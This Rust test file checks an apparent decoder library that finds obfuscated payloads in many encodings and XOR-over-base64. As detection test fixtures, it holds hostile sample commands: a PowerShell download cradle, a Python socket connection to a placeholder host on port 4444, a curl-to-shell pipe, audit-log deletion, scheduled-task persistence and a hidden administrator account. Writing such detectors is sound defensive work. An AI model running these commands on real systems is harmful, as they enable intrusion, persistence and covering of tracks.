//! Laws of the encodings other than Base64: what tiny encoders write is found where it stands,
//! and the finders find what slow regular expressions find.

#![allow(
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::print_stderr,
    clippy::string_slice,
    clippy::unwrap_used,
    reason = "tests may fail loudly"
)]

use std::collections::BTreeSet;
use std::ops::Range;
use std::time::Duration;

use b64unpack::{Encoding, Encodings, Unpacker};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use proptest::prelude::*;
use regex::bytes::Regex;

/// Encoders as short as can be.
mod encode {
    pub(crate) fn each(bytes: &[u8], write: impl Fn(u8) -> String, between: &str) -> String {
        let items: Vec<String> = bytes.iter().map(|&byte| write(byte)).collect();
        items.join(between)
    }

    /// Whole groups of `size` bytes as `symbols` digits each, the largest first; of a last group
    /// of `n` bytes what `n` bytes need, the rest being filled with `fill`.
    pub(crate) fn groups(bytes: &[u8], size: usize, alphabet: &[u8], fill: u8) -> String {
        let base = alphabet.len() as u64;
        // As many digits as the values of so many bytes need.
        let needed = |bytes: usize| {
            let enough = |&digits: &u32| u128::from(base).pow(digits) >= 1 << (8 * bytes);
            (1..).find(enough).unwrap() as usize
        };
        let mut out = String::new();
        for group in bytes.chunks(size) {
            let filled = group
                .iter()
                .copied()
                .chain(std::iter::repeat(fill))
                .take(size);
            let mut value = filled.fold(0u64, |value, byte| value << 8 | u64::from(byte));
            let mut digits = vec![0; needed(size)];
            for digit in digits.iter_mut().rev() {
                *digit = alphabet[(value % base) as usize];
                value /= base;
            }
            digits.truncate(needed(group.len()));
            out.extend(digits.into_iter().map(char::from));
        }
        out
    }

    pub(crate) fn rot13(text: &str) -> String {
        const PLAIN: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
        const TURNED: &str = "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm";
        let turn = |c| {
            PLAIN
                .find(c)
                .map_or(c, |place| char::from(TURNED.as_bytes()[place]))
        };
        text.chars().map(turn).collect()
    }
}

const BASE32: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
const RFC1924: &[u8] =
    b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
const Z85: &[u8] =
    b"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ.-:+=^!/*?&<>()[]{}@%$#";

fn ascii85(bytes: &[u8]) -> String {
    let alphabet: Vec<u8> = (b'!'..=b'u').collect();
    encode::groups(bytes, 4, &alphabet, 0).replace("!!!!!", "z")
}

/// Each way to write text, with the name under which it must be found.
fn spellings(text: &str) -> Vec<(&'static str, String)> {
    use encode::{each, groups};
    let bytes = text.as_bytes();
    let base64 = STANDARD.encode(bytes);
    let whole = text.len() % 4 == 0;
    let mut all = vec![
        ("hex", each(bytes, |b| format!("{b:02x}"), "")),
        ("hex", each(bytes, |b| format!("{b:02X}"), "-")),
        ("hex", each(bytes, |b| format!("\\x{b:02x}"), "")),
        ("hex", each(bytes, |b| format!("0x{b:02x}"), ", ")),
        ("percent", each(bytes, |b| format!("%{b:02X}"), "")),
        ("percent-u", each(bytes, |b| format!("%u{b:04x}"), "")),
        ("charcodes", each(bytes, |b| format!("[char]{b}"), "+")),
        ("charcodes", each(bytes, |b| format!("Chr({b})"), " & ")),
        ("charcodes", each(bytes, |b| b.to_string(), ",")),
        ("charcodes", each(bytes, |b| format!("&#{b};"), "")),
        ("base32", groups(bytes, 5, BASE32, 0)),
        ("base85", groups(bytes, 4, RFC1924, 0)),
        ("ascii85", format!("<~{}~>", ascii85(bytes))),
        ("base64rot13", encode::rot13(&base64)),
        ("base64reversed", base64.chars().rev().collect()),
    ];
    if whole {
        all.push(("z85", groups(bytes, 4, Z85, 0)));
    }
    all
}

const WORDS: [&str; 16] = [
    "powershell",
    "hidden",
    "start",
    "the",
    "process",
    "remote",
    "session",
    "download",
    "execute",
    "and",
    "then",
    "delete",
    "shadow",
    "copies",
    "password",
    "administrator",
];

/// Commands, as they are hidden: words, paths, addresses.
fn command() -> impl Strategy<Value = String> {
    let word = prop_oneof![
        proptest::sample::select(WORDS.to_vec()).prop_map(str::to_owned),
        "-[a-z]{1,6}",
        "C:\\\\[A-Z][a-z]{2,8}\\\\[a-z]{2,8}\\.exe",
        "https://[a-z]{3,9}\\.example/[a-z0-9]{1,8}",
        "\"[a-zA-Z ]{3,12}\"",
    ];
    proptest::collection::vec(word, 6..20)
        .prop_map(|words| words.join(" "))
        // The same few letters over and over are no text.
        .prop_filter("words", |text| {
            text.bytes().collect::<BTreeSet<_>>().len() >= 14
        })
}

fn widen(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// Spans of depth 1.
fn spans(encodings: Encodings, least: f32, haystack: &[u8]) -> Vec<Range<usize>> {
    let unpacker = Unpacker::new().encodings(encodings).min_confidence(least);
    let tree = unpacker.unpack(haystack);
    tree.roots().filter_map(|root| root.range()).collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn what_is_written_is_found(text in command()) {
        for (name, written) in spellings(&text) {
            let (before, behind) = ("run \"", "\" now");
            let line = format!("{before}{written}{behind}");
            for scale in [1, 2] {
                let wide = widen(&line);
                let haystack = if scale == 2 { &wide[..] } else { line.as_bytes() };
                let tree = Unpacker::new().encodings(Encodings::ALL).unpack(haystack);
                let root = tree.roots().next();
                prop_assert!(root.is_some(), "{name}: {line}");
                let root = root.unwrap();
                prop_assert_eq!(root.encoding().unwrap().name(), name, "{}", line);
                prop_assert_eq!(String::from_utf8_lossy(root.bytes()), &*text);
                let start = scale * before.len();
                prop_assert_eq!(root.range(), Some(start..start + scale * written.len()));
                prop_assert!(tree.problems().is_empty());
            }
        }
    }

    #[test]
    fn runs_are_those_of_a_regex(haystack in pieces(&["4d5a", "9", "0x", "0X", "aF", "g", " ", "\\x"])) {
        // An odd number of digits must make sense to be taken, which `4d5a9` does not.
        let twin = Regex::new("(?i-u)(?:0x)?([0-9a-f]{24,})").unwrap();
        let expected: Vec<_> = twin
            .captures_iter(&haystack)
            .filter(|found| found[1].len() % 2 == 0)
            .map(|found| found.get(0).unwrap().range())
            .collect();
        let odd = twin.captures_iter(&haystack).any(|found| found[1].len() % 2 == 1);
        prop_assume!(!odd);
        prop_assert_eq!(spans(Encodings::NONE.with(Encoding::Hex), 0.0, &haystack), expected);
    }

    #[test]
    fn escapes_are_those_of_a_regex(haystack in pieces(&["\\x41", "\\x4", "\\\\x9F", "\\", "x", "\"+\"", "\"\n \"", "g"])) {
        let twin = Regex::new(r#"(?-u)\\?\\x[0-9a-fA-F]{2}(?:(?:"\+"|"\n "|""|"\n "\+")?\\?\\x[0-9a-fA-F]{2}){5,}"#).unwrap();
        let expected: Vec<_> = twin.find_iter(&haystack).map(|found| found.range()).collect();
        prop_assert_eq!(spans(Encodings::NONE.with(Encoding::Hex), 0.0, &haystack), expected);
    }

    #[test]
    fn units_are_those_of_a_regex(haystack in pieces(&["%u0041", "%u9090", "%41", "%", "u", "%u004", " "])) {
        let twin = Regex::new("(?i-u)%u[0-9a-f]{4}(?:%u[0-9a-f]{4}|%[0-9a-f]{2}){3,}").unwrap();
        let expected: Vec<_> = twin.find_iter(&haystack).map(|found| found.range()).collect();
        prop_assert_eq!(spans(Encodings::NONE.with(Encoding::PercentU), 0.0, &haystack), expected);
    }

    #[test]
    fn casts_are_those_of_a_regex(haystack in pieces(&["[char]65", "[CHAR] 0x42", "+", " + ", ",", "[char", "]", "(7)"])) {
        let item = r"\[char\] ?(?:0x[0-9a-f]{1,6}|[0-9]{1,7}|\([0-9]\))";
        let plus = Regex::new(&format!(r"(?i-u){item}(?:(?: ?\+ ?){item}){{3,}}")).unwrap();
        let comma = Regex::new(&format!(r"(?i-u){item}(?:,{item}){{3,}}")).unwrap();
        let mut expected: Vec<_> = plus
            .find_iter(&haystack)
            .chain(comma.find_iter(&haystack))
            .map(|found| found.range())
            .collect();
        expected.sort_by_key(|range| range.start);
        // Where a list ends with the item that begins another, the two would share it.
        prop_assume!(expected.windows(2).all(|pair| pair[0].end <= pair[1].start));
        let set = Encodings::NONE.with(Encoding::CharCodes);
        let found = spans(set, 0.0, &haystack);
        prop_assert_eq!(found, expected);
    }

    #[test]
    fn any_bytes_are_read_the_same_twice(haystack in pieces(&[
        "%41", "%u0041", "\\x41", "0x41,", "[char]65+", "chr(65)&", "&#65;", "65,66,", "4d 5a ",
        "4d5a9000", "<~", "~>", "87cURD]i", "JBSWY3DP", "=", "SGVsbG8g", "\u{e9}", "\0", "\"+\"",
        "fromCharCode(", "[char[]](", ")", "\n", "-1,", "MZ", "z", "y",
    ])) {
        let unpacker = Unpacker::new().encodings(Encodings::ALL).min_confidence(0.0);
        let (first, again) = (unpacker.unpack(&haystack), unpacker.unpack(&haystack));
        prop_assert_eq!(first.len(), again.len());
        let mut end = 0;
        for root in first.roots() {
            let range = root.range().unwrap();
            prop_assert!(end <= range.start && range.start < range.end && range.end <= haystack.len());
            end = range.end;
        }
    }
}

/// Pieces in any order, some of them repeated.
fn pieces(pieces: &[&'static str]) -> impl Strategy<Value = Vec<u8>> + use<> {
    let piece = proptest::sample::select(pieces.to_vec());
    let repeated = (piece, prop_oneof![3 => Just(1usize), 1 => 1usize..20]);
    proptest::collection::vec(repeated, 0..30).prop_map(|all| {
        let all = all.iter().map(|(piece, times)| piece.repeat(*times));
        all.collect::<String>().into_bytes()
    })
}

/// Commands and other texts: with more quotation marks than spaces, with few spaces, in lines.
const TEXTS: [&str; 8] = [
    "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://a.example/b')",
    "{\"run\":\"powershell\",\"args\":[\"-nop\",\"-w\",\"hidden\",\"-c\",\"whoami /all\"],\"once\":\"true\"}",
    "\"cmd\" \"/c\" \"start\" \"\" \"C:\\Users\\Public\\update.exe\" \"--silent\" \"--remote\" \"203.0.113.7\"",
    "<a \"b\"=\"c\" href=\"http://downloads.example/setup\" title=\"Click\" target=\"_blank\">install</a>",
    "import socket,subprocess;s=socket.socket();s.connect((\"192.0.2.7\",4444))",
    "schtasks /create /tn updater /tr C:\\Windows\\Temp\\updater.exe /sc minute /mo 5",
    "curl -s http://downloads.example/install.sh | sh\nrm -rf /var/log/audit\nhistory -c\n",
    "net user backup P@ssw0rd17! /add && net localgroup administrators backup /add",
];

#[test]
fn a_key_is_found() {
    for text in TEXTS {
        for key in 0x80..=u8::MAX {
            let bent: Vec<u8> = text.bytes().map(|byte| byte ^ key).collect();
            let line = format!("x = '{}'", STANDARD.encode(&bent));
            let tree = Unpacker::new().encodings(Encodings::ALL).unpack(&line);
            let payloads: Vec<_> = tree.iter().collect();
            assert!(payloads.len() >= 2, "{text} {key}");
            assert_eq!(payloads[0].bytes(), &bent[..]);
            assert_eq!(payloads[1].chain().to_string(), "base64>xor");
            assert_eq!(payloads[1].key(), Some(key), "{text}");
            assert_eq!(payloads[1].range(), Some(0..bent.len()));
            assert_eq!(payloads[1].bytes(), text.as_bytes());
        }
    }
}

/// Text is not bent into other text, whatever it is.
#[test]
fn what_is_text_has_no_key() {
    let texts = TEXTS.map(str::to_owned).into_iter();
    let others = [
        "44.146|18.299|28.637|74.805|82.189|20.411",
        "KXJDSGXCGGEGEOBFKZPGLZOAZGIDIAAULKIR",
        "WWHDIVNJ_HCSPN_TJMFWK_YRBWGH_KLPWNX",
        "0,1,2,3,5,8,13,21,34,55,89,144,233,377,610",
        "f81d4fae-7dec-11d0-a765-00a0c91e6bf6",
        "~?da11163c~>user=uuyqqdqfh~?>status=ok~?>",
        "/usr/lib/python3/dist-packages/yaml/loader.py",
        "\u{43f}\u{440}\u{438}\u{432}\u{435}\u{442}\u{43c}\u{438}\u{440}",
    ];
    for text in texts.chain(others.map(str::to_owned)) {
        for bytes in [text.as_bytes().to_vec(), widen(&text)] {
            let line = format!("x = '{}'", STANDARD.encode(&bytes));
            let unpacker = Unpacker::new().min_confidence(0.0);
            let tree = unpacker.unpack(&line);
            let bent = tree.iter().find(|payload| payload.key().is_some());
            assert!(bent.is_none(), "{text} {:?}", bent.map(|bent| bent.key()));
        }
    }
}

#[test]
fn nothing_is_found_that_is_off() {
    for (name, written) in spellings("powershell -nop -w hidden -c whoami /all") {
        let off = Encodings::ALL.without(name.parse().unwrap());
        let tree = Unpacker::new()
            .encodings(off)
            .unpack(format!("x '{written}'"));
        let names: Vec<_> = tree
            .iter()
            .filter_map(|payload| payload.encoding())
            .collect();
        assert!(names.iter().all(|found| found.name() != name), "{name}");
    }
}

/// Inputs that would be quadratic if anything were looked through once for each place.
#[test]
fn time_is_linear() {
    let pieces = [
        "%",
        "%4",
        "%41",
        "%u",
        "%u4141",
        "\\x",
        "\\x41",
        "\\x41\"+\"",
        "\\u",
        "0x",
        "0x0x,",
        "0x41,",
        "0x41,                                ",
        ",",
        "1,",
        "1,2;",
        "12 ",
        "-1,",
        "4d ",
        "4d-5a:",
        "0000 4d 5a 90 00 03 00 00 00 04 00 00 00 \n",
        "1,2,3,4,5,6,7,8,9,10,11,12,13,14;\n",
        "65 66 67 68 69 70 71 72 73 74 75 76 77 78;\n",
        "abc",
        "<~",
        "<~aaaaa",
        "<~zzzzzzzzzzzzzzzz",
        "<~~",
        "~",
        "[char]",
        "[char[]](",
        "[char]65+",
        "chr(",
        "chr(1) ",
        "fromCharCode(1,2",
        "&#",
        "&#1;",
        "A",
        "A=",
        "=(",
        "\"",
        "(",
        "HelloWorld",
        "&H41,",
        "_\n",
        "\n",
        " ",
        "QUJD",
    ];
    for piece in pieces {
        let haystack = piece.repeat(2_000_000 / piece.len());
        let start = cpu_time::ThreadTime::now();
        let tree = Unpacker::new().encodings(Encodings::ALL).unpack(&haystack);
        let took = start.elapsed();
        // Linear work takes a tenth of a second; quadratic work takes hours.
        assert!(
            took < Duration::from_secs(20),
            "{piece:?}: {took:?}, {} found",
            tree.len()
        );
    }
}
